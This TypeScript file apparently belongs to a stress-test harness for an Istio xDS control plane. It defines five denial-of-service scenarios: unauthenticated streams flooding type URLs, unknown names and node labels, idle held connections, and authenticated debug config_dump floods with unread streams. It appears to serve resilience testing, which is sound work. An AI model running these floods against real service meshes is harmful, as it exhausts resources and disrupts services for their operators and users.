import { toBinary } from "@bufbuild/protobuf";
import { nodeOf } from "@istiod/bench";
import { NodeSchema } from "@istiod/envoy-api/envoy/config/core/v3/base";
import { clusterType, endpointType } from "@istiod/xds-server";
import type { Attack } from "../../attack.js";
import { floodStreams, sidecarNode } from "./stream-flood.js";

const debugType = "istio.io/debug";

const scaled = (count: number, scale: number): number => Math.max(1, Math.round(count * scale));

const types: Attack = {
  name: "many-types",
  description: "a stream without credentials requests 176,000 types",
  run: ({ ports }, scale) =>
    floodStreams(ports.plaintext, {
      streams: 1,
      requests: () =>
        Array.from({ length: scaled(176_000, scale) }, (_, i) => ({
          typeUrl: `example.com/Type${i}`,
          ...(i === 0 && { node: sidecarNode(0) }),
        })),
    }),
};

const names: Attack = {
  name: "many-names",
  description: "20 streams without credentials each subscribe to 95,000 unknown names",
  run: ({ ports }, scale) =>
    floodStreams(ports.plaintext, {
      streams: 20,
      requests: (stream) => [
        {
          node: sidecarNode(stream),
          typeUrl: endpointType,
          names: Array.from(
            { length: scaled(95_000, scale) },
            (_, i) => `outbound|80||stranger-${stream}-${i}.example.com`,
          ),
        },
      ],
    }),
};

const labels: Attack = {
  name: "many-labels",
  description: "20 streams without credentials send nodes with 20,000 labels",
  run: ({ ports }, scale) =>
    floodStreams(ports.plaintext, {
      streams: 20,
      requests: (stream) => {
        const LABELS = Object.fromEntries(
          Array.from({ length: scaled(20_000, scale) }, (_, i) => [`label-${stream}-${i}`, `value-${stream}-${i}`]),
        );
        const node = sidecarNode(stream, { metadata: { NAMESPACE: "default", LABELS } });
        return [{ node, typeUrl: clusterType }];
      },
    }),
};

const silent: Attack = {
  name: "silent-streams",
  description: "500 connections without credentials open a stream and send nothing",
  run: ({ ports }, scale) =>
    floodStreams(ports.plaintext, { streams: scaled(500, scale), requests: () => [], holdMs: 5000 }),
};

const dumps: Attack = {
  name: "debug-streams",
  description:
    "100 streams of a workload each subscribe to clusters and request 20 dumps of them, and half of them do not read",
  run({ ports, places, tokens }, scale) {
    const [place] = places;
    if (place === undefined) throw new Error("the target has no honest proxy");
    const node = toBinary(NodeSchema, nodeOf(place));
    const id = `${place.name}.${place.namespace}`;
    const requests = [
      { typeUrl: debugType, names: [`config_dump?proxyID=${id}`] },
      { typeUrl: `${debugType}/config_dump`, names: [id] },
    ];
    return floodStreams(ports.xds, {
      streams: scaled(100, scale),
      headers: { authorization: `Bearer ${tokens.of(place)}` },
      requests: () => [{ node, typeUrl: clusterType }, ...Array.from({ length: 10 }, () => requests).flat()],
      intervalMs: 50,
      isPaused: (stream) => stream % 2 === 0,
      holdMs: 10_000,
    });
  },
};

/** Attacks by what streams contain. */
export const streamAttacks: readonly Attack[] = [types, names, labels, silent, dumps];
